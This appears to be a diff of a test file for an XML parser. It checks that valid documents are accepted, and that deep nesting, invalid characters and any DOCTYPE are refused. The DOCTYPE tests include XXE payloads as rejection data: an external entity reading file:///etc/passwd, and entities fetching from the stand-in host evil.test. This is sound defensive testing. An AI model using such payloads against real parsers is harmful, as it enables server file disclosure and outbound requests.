@@ -1,104 +1,128 @@
 import { describe, expect, it } from 'vitest'
 import { parseTree } from '../../../src/xml/tree.ts'
+import { eachRow } from '../../support/each-row.ts'
 import { refusalOf } from '../../support/xml.ts'
 
 // What is a document (XML 1.0), and what is not, or is not accepted by the service.
 
 describe('a document is accepted', () => {
-  it.each([
-    ['an empty element', '<planet/>'],
-    ['a start tag and an end tag', '<planet></planet>'],
-    ['spaces within its tags', '<planet \t\r\n></planet \n><!-- -->'],
-    ['spaces in an empty tag', '<planet />'],
-    ['white space and comments around it', ' \r\n\t<!-- a --> <planet/> <!-- b -->\n'],
-    ['a name of other scripts', '<行星 名="火星"/>'],
-    ['a prefix', '<g:planet xmlns:g="urn:galaxy"/>'],
-    ['a prefix that nothing declares', '<g:planet/>'],
-    ['attributes in both quotes', `<planet a="'" b='"'/>`],
-    ['spaces around the equals sign of an attribute', '<planet a = "b"\n\tc\n=\n"d"/>'],
-    ['an attribute with ">"', '<planet a=">" b="/>" c="]]>" d="-->" e="?>"/>'],
-    ['an attribute with white space', '<planet a=" \t\r\n "/>'],
-    ['an attribute with references', '<planet a="&lt;&#38;&#x1FA90;&quot;"/>'],
-    ['an empty attribute', '<planet a=""/>'],
-    ['attributes that differ by their prefix', '<planet a:x="" b:x="" x=""/>'],
-    ['attributes that differ by their case', '<planet a="" A=""/>'],
-    ['an empty comment', '<planet><!----></planet>'],
-    ['a comment with single hyphens', '<!-- - -a- b --><planet/>'],
-    ['a comment with text that is rejected elsewhere', '<planet><!-- <!DOCTYPE a> <?b?> & < ]]> --></planet>'],
-    ['a CDATA section with text that is rejected elsewhere', '<planet><![CDATA[<!DOCTYPE a> <?b?> & < -- ]]></planet>'],
-    ['CDATA sections that split their own end', '<planet><![CDATA[]]]]><![CDATA[>]]></planet>'],
-    ['"]]" without its ">"', '<planet>]] ]></planet>'],
-    ['"]]>" with a reference', '<planet>]]&gt;</planet>'],
-    ['">" in text', '<planet>a > b</planet>'],
-    ['quotes in text', `<planet>"it's"</planet>`],
-    ['every kind of reference', '<planet>&amp;&lt;&gt;&quot;&apos;&#9;&#xA;&#x10ffFF;</planet>'],
-    ['a reference with leading zeros', '<planet>&#00065;&#x00041;</planet>'],
-    ['a reference with very many leading zeros', `<planet>&#${'0'.repeat(20)}65;&#x${'0'.repeat(20)}41;</planet>`],
-    ['words that look like a DOCTYPE', '<planet>&lt;!DOCTYPE a></planet>'],
-    ['a character beyond 16 bits', '<planet>🪐\u{10ffff}</planet>'],
-    ['controls outside of ASCII', '<planet>\u007f\u0085\u2028</planet>'],
-  ])('%s', (_, text) => {
-    expect(() => parseTree(text)).not.toThrow()
-  })
+  it('in every form that XML has', () =>
+    eachRow(
+      [
+        ['an empty element', '<planet/>'],
+        ['a start tag and an end tag', '<planet></planet>'],
+        ['spaces within its tags', '<planet \t\r\n></planet \n><!-- -->'],
+        ['spaces in an empty tag', '<planet />'],
+        ['white space and comments around it', ' \r\n\t<!-- a --> <planet/> <!-- b -->\n'],
+        ['a name of other scripts', '<行星 名="火星"/>'],
+        ['a prefix', '<g:planet xmlns:g="urn:galaxy"/>'],
+        ['a prefix that nothing declares', '<g:planet/>'],
+        ['attributes in both quotes', `<planet a="'" b='"'/>`],
+        ['spaces around the equals sign of an attribute', '<planet a = "b"\n\tc\n=\n"d"/>'],
+        ['an attribute with ">"', '<planet a=">" b="/>" c="]]>" d="-->" e="?>"/>'],
+        ['an attribute with white space', '<planet a=" \t\r\n "/>'],
+        ['an attribute with references', '<planet a="&lt;&#38;&#x1FA90;&quot;"/>'],
+        ['an empty attribute', '<planet a=""/>'],
+        ['attributes that differ by their prefix', '<planet a:x="" b:x="" x=""/>'],
+        ['attributes that differ by their case', '<planet a="" A=""/>'],
+        ['an empty comment', '<planet><!----></planet>'],
+        ['a comment with single hyphens', '<!-- - -a- b --><planet/>'],
+        ['a comment with text that is rejected elsewhere', '<planet><!-- <!DOCTYPE a> <?b?> & < ]]> --></planet>'],
+        [
+          'a CDATA section with text that is rejected elsewhere',
+          '<planet><![CDATA[<!DOCTYPE a> <?b?> & < -- ]]></planet>',
+        ],
+        ['CDATA sections that split their own end', '<planet><![CDATA[]]]]><![CDATA[>]]></planet>'],
+        ['"]]" without its ">"', '<planet>]] ]></planet>'],
+        ['"]]>" with a reference', '<planet>]]&gt;</planet>'],
+        ['">" in text', '<planet>a > b</planet>'],
+        ['quotes in text', `<planet>"it's"</planet>`],
+        ['every kind of reference', '<planet>&amp;&lt;&gt;&quot;&apos;&#9;&#xA;&#x10ffFF;</planet>'],
+        ['a reference with leading zeros', '<planet>&#00065;&#x00041;</planet>'],
+        ['a reference with very many leading zeros', `<planet>&#${'0'.repeat(20)}65;&#x${'0'.repeat(20)}41;</planet>`],
+        ['words that look like a DOCTYPE', '<planet>&lt;!DOCTYPE a></planet>'],
+        ['a character beyond 16 bits', '<planet>🪐\u{10ffff}</planet>'],
+        ['controls outside of ASCII', '<planet>\u007f\u0085\u2028</planet>'],
+      ],
+      ([, text]) => {
+        expect(() => parseTree(text)).not.toThrow()
+      },
+    ))
 
-  it.each([
-    ['its version alone', `<?xml version="1.0"?>`],
-    ['apostrophes', `<?xml version='1.0'?>`],
-    ['UTF-8', `<?xml version="1.0" encoding="UTF-8"?>`],
-    ['UTF-8 in lower case', `<?xml version="1.0" encoding="utf-8"?>`],
-    ['all of its parts', `<?xml version='1.0' encoding='Utf-8' standalone='yes'?>`],
-    ['no encoding', `<?xml version="1.0" standalone="no"?>`],
-    ['all sorts of white space', `<?xml\tversion = "1.0"\r\n encoding\n=\n"UTF-8"  ?>`],
-  ])('a declaration with %s', (_, declaration) => {
-    expect(parseTree(`${declaration}<planet/>`).name).toBe('planet')
-    expect(parseTree(`${declaration}\n<!-- --><planet/>`).name).toBe('planet')
-  })
+  it('with every kind of declaration', () =>
+    eachRow(
+      [
+        ['its version alone', `<?xml version="1.0"?>`],
+        ['apostrophes', `<?xml version='1.0'?>`],
+        ['UTF-8', `<?xml version="1.0" encoding="UTF-8"?>`],
+        ['UTF-8 in lower case', `<?xml version="1.0" encoding="utf-8"?>`],
+        ['all of its parts', `<?xml version='1.0' encoding='Utf-8' standalone='yes'?>`],
+        ['no encoding', `<?xml version="1.0" standalone="no"?>`],
+        ['all sorts of white space', `<?xml\tversion = "1.0"\r\n encoding\n=\n"UTF-8"  ?>`],
+      ],
+      ([, declaration]) => {
+        expect(parseTree(`${declaration}<planet/>`).name).toBe('planet')
+        expect(parseTree(`${declaration}\n<!-- --><planet/>`).name).toBe('planet')
+      },
+    ))
 
-  it.each([
-    ['elements', `${'<a>'.repeat(31)}<a/>${'</a>'.repeat(31)}`],
-    ['elements with text inside', `${'<a>'.repeat(32)}x${'</a>'.repeat(32)}`],
-    ['elements more than once, side by side', `<a>${`${'<a>'.repeat(31)}${'</a>'.repeat(31)}`.repeat(3)}</a>`],
-  ])('32 levels of %s', (_, text) => {
-    expect(() => parseTree(text)).not.toThrow()
-  })
+  it('with 32 levels of anything', () =>
+    eachRow(
+      [
+        ['elements', `${'<a>'.repeat(31)}<a/>${'</a>'.repeat(31)}`],
+        ['elements with text inside', `${'<a>'.repeat(32)}x${'</a>'.repeat(32)}`],
+        ['elements more than once, side by side', `<a>${`${'<a>'.repeat(31)}${'</a>'.repeat(31)}`.repeat(3)}</a>`],
+      ],
+      ([, text]) => {
+        expect(() => parseTree(text)).not.toThrow()
+      },
+    ))
 })
 
 describe('nesting that is too deep is rejected', () => {
-  it.each([
-    ['33 elements', '<a>'.repeat(33) + '</a>'.repeat(33)],
-    ['32 elements with an empty one inside', `${'<a>'.repeat(32)}<a/>${'</a>'.repeat(32)}`],
-    ['the second of two that are side by side', `<a><b/>${'<a>'.repeat(32)}${'</a>'.repeat(32)}</a>`],
-    ['10,000 elements', '<a>'.repeat(10_000) + '</a>'.repeat(10_000)],
-    ['as many elements as fit, never closed', '<a>'.repeat(87_000)],
-  ])('%s', (_, text) => {
-    expect(refusalOf(() => parseTree(text)).message).toMatch(/more than 32 levels/)
-  })
+  it('of anything', () =>
+    eachRow(
+      [
+        ['33 elements', '<a>'.repeat(33) + '</a>'.repeat(33)],
+        ['32 elements with an empty one inside', `${'<a>'.repeat(32)}<a/>${'</a>'.repeat(32)}`],
+        ['the second of two that are side by side', `<a><b/>${'<a>'.repeat(32)}${'</a>'.repeat(32)}</a>`],
+        ['10,000 elements', '<a>'.repeat(10_000) + '</a>'.repeat(10_000)],
+        ['as many elements as fit, never closed', '<a>'.repeat(87_000)],
+      ],
+      ([, text]) => {
+        expect(refusalOf(() => parseTree(text)).message).toMatch(/more than 32 levels/)
+      },
+    ))
 })
 
 describe('a DOCTYPE is rejected, wherever it is and however it is written', () => {
   const entity = '<!ENTITY x "y">'
 
-  it.each([
-    ['alone', '<!DOCTYPE planet>'],
-    ['before its root', '<!DOCTYPE planet><planet/>'],
-    ['after a declaration', '<?xml version="1.0"?>\n<!DOCTYPE planet><planet/>'],
-    ['after a comment', '<!-- --><!DOCTYPE planet><planet/>'],
-    ['within the root', '<planet><!DOCTYPE planet></planet>'],
-    ['after the root', '<planet/><!DOCTYPE planet>'],
-    ['in lower case', '<!doctype planet><planet/>'],
-    ['in mixed case', '<!DocType planet><planet/>'],
-    ['of HTML', '<!DOCTYPE html><planet/>'],
-    ['with nothing after the word', '<!DOCTYPE'],
-    ['with a system identifier', '<!DOCTYPE planet SYSTEM "http://evil.test/planet.dtd"><planet/>'],
-    ['with a public identifier', '<!DOCTYPE planet PUBLIC "-//X" "http://evil.test/planet.dtd"><planet/>'],
-    ['with an entity', `<!DOCTYPE planet [${entity}]><planet>&x;</planet>`],
-    ['with a file as an entity', '<!DOCTYPE planet [<!ENTITY x SYSTEM "file:///etc/passwd">]><planet>&x;</planet>'],
-    ['with a parameter entity', '<!DOCTYPE planet [<!ENTITY % x SYSTEM "http://evil.test/x"> %x;]><planet/>'],
-    ['with an attribute list', '<!DOCTYPE planet [<!ATTLIST planet name CDATA "x">]><planet/>'],
-    ['twice', '<!DOCTYPE a><!DOCTYPE planet><planet/>'],
-  ])('%s', (_, text) => {
-    expect(refusalOf(() => parseTree(text)).message).toMatch(/DOCTYPE is not allowed/)
-  })
+  it('in every place and form', () =>
+    eachRow(
+      [
+        ['alone', '<!DOCTYPE planet>'],
+        ['before its root', '<!DOCTYPE planet><planet/>'],
+        ['after a declaration', '<?xml version="1.0"?>\n<!DOCTYPE planet><planet/>'],
+        ['after a comment', '<!-- --><!DOCTYPE planet><planet/>'],
+        ['within the root', '<planet><!DOCTYPE planet></planet>'],
+        ['after the root', '<planet/><!DOCTYPE planet>'],
+        ['in lower case', '<!doctype planet><planet/>'],
+        ['in mixed case', '<!DocType planet><planet/>'],
+        ['of HTML', '<!DOCTYPE html><planet/>'],
+        ['with nothing after the word', '<!DOCTYPE'],
+        ['with a system identifier', '<!DOCTYPE planet SYSTEM "http://evil.test/planet.dtd"><planet/>'],
+        ['with a public identifier', '<!DOCTYPE planet PUBLIC "-//X" "http://evil.test/planet.dtd"><planet/>'],
+        ['with an entity', `<!DOCTYPE planet [${entity}]><planet>&x;</planet>`],
+        ['with a file as an entity', '<!DOCTYPE planet [<!ENTITY x SYSTEM "file:///etc/passwd">]><planet>&x;</planet>'],
+        ['with a parameter entity', '<!DOCTYPE planet [<!ENTITY % x SYSTEM "http://evil.test/x"> %x;]><planet/>'],
+        ['with an attribute list', '<!DOCTYPE planet [<!ATTLIST planet name CDATA "x">]><planet/>'],
+        ['twice', '<!DOCTYPE a><!DOCTYPE planet><planet/>'],
+      ],
+      ([, text]) => {
+        expect(refusalOf(() => parseTree(text)).message).toMatch(/DOCTYPE is not allowed/)
+      },
+    ))
 })
 
 describe('any other text that is not a document, or is not accepted, is rejected with its reason', () => {
@@ -265,9 +289,10 @@ describe('any other text that is not a document, or is not accepted, is rejected
   }
 
   describe.each(Object.entries(reasons))('%s', (_, [reason, documents]) => {
-    it.each(documents)('%s', (_, text) => {
-      expect(refusalOf(() => parseTree(text)).message).toMatch(reason)
-    })
+    it('is rejected with that reason', () =>
+      eachRow(documents, ([, text]) => {
+        expect(refusalOf(() => parseTree(text)).message).toMatch(reason)
+      }))
   })
 })
 
@@ -295,34 +320,37 @@ describe('a reference to an invalid character is rejected', () => {
     '&#xD83E;&#xDE90;',
   ]
 
-  it.each(references)('%s in text', (reference) => {
-    refusalOf(() => parseTree(`<planet>${reference}</planet>`))
-    refusalOf(() => parseTree(`<planet><name>a${reference}b</name></planet>`))
-  })
+  it('in text', () =>
+    eachRow(references, (reference) => {
+      refusalOf(() => parseTree(`<planet>${reference}</planet>`))
+      refusalOf(() => parseTree(`<planet><name>a${reference}b</name></planet>`))
+    }))
 
-  it.each(references)('%s in an attribute', (reference) => {
-    refusalOf(() => parseTree(`<planet note="${reference}"/>`))
-    refusalOf(() => parseTree(`<planet><name note='a${reference}b'/></planet>`))
-  })
+  it('in an attribute', () =>
+    eachRow(references, (reference) => {
+      refusalOf(() => parseTree(`<planet note="${reference}"/>`))
+      refusalOf(() => parseTree(`<planet><name note='a${reference}b'/></planet>`))
+    }))
 })
 
 describe('a character that XML cannot carry is rejected, wherever it is', () => {
-  it.each(['\u0000', '\u0001', '\b', '\v', '\f', '\u001b', '\u001f', '\ud800', '\udfff', '\ufffe', '\uffff'])(
-    '%j',
-    (character) => {
-      for (const text of [
-        `<planet>${character}</planet>`,
-        `<planet a="${character}"/>`,
-        `<planet><![CDATA[${character}]]></planet>`,
-        `<planet><!--${character}--></planet>`,
-        `<planet${character}/>`,
-        `${character}<planet/>`,
-        `<planet/>${character}`,
-      ]) {
-        expect(refusalOf(() => parseTree(text)).message).toMatch(/U\+[0-9A-F]{4}/)
-      }
-    },
-  )
+  it('every such character', () =>
+    eachRow(
+      ['\u0000', '\u0001', '\b', '\v', '\f', '\u001b', '\u001f', '\ud800', '\udfff', '\ufffe', '\uffff'],
+      (character) => {
+        for (const text of [
+          `<planet>${character}</planet>`,
+          `<planet a="${character}"/>`,
+          `<planet><![CDATA[${character}]]></planet>`,
+          `<planet><!--${character}--></planet>`,
+          `<planet${character}/>`,
+          `${character}<planet/>`,
+          `<planet/>${character}`,
+        ]) {
+          expect(refusalOf(() => parseTree(text)).message).toMatch(/U\+[0-9A-F]{4}/)
+        }
+      },
+    ))
 })
 
 it('the line of an error is reported', () => {
@@ -331,16 +359,20 @@ it('the line of an error is reported', () => {
 })
 
 describe('a refusal never quotes a text, which could be a password', () => {
-  it.each([
-    ['an element that is not closed', '<credentials><password>hunter2</credentials>'],
-    ['an unknown entity', '<password>hunter2&hunter2;</password>'],
-    ['a bare "&"', '<password>hunter2 & hunter2</password>'],
-    ['text outside', '<password/>hunter2'],
-    ['a bare "<"', '<password>hunter2<hunter2</password>'],
-    ['a control character', '<password>hunter2\u0000</password>'],
-    ['a reference to an invalid character', '<password>hunter2&#0;</password>'],
-    ['an attribute', '<user password="hunter2" password="hunter2"/>'],
-  ])('%s', (_, text) => {
-    expect(refusalOf(() => parseTree(text)).message).not.toContain('hunter')
-  })
+  it('whatever is wrong', () =>
+    eachRow(
+      [
+        ['an element that is not closed', '<credentials><password>hunter2</credentials>'],
+        ['an unknown entity', '<password>hunter2&hunter2;</password>'],
+        ['a bare "&"', '<password>hunter2 & hunter2</password>'],
+        ['text outside', '<password/>hunter2'],
+        ['a bare "<"', '<password>hunter2<hunter2</password>'],
+        ['a control character', '<password>hunter2\u0000</password>'],
+        ['a reference to an invalid character', '<password>hunter2&#0;</password>'],
+        ['an attribute', '<user password="hunter2" password="hunter2"/>'],
+      ],
+      ([, text]) => {
+        expect(refusalOf(() => parseTree(text)).message).not.toContain('hunter')
+      },
+    ))
 })
